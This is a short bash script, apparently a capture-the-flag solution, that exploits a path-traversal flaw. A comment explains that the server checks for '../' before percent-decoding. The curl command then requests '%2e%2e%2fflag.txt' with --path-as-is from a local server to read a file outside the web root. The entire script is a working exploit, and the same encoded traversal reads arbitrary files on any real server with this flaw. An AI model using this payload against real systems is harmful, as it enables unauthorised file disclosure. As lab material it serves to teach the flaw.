#!/bin/bash
# The "../" check runs before percent-decoding: %2e%2e%2f decodes to "../" after the check.
curl -s --path-as-is 'http://127.0.0.1:8080/%2e%2e%2fflag.txt'
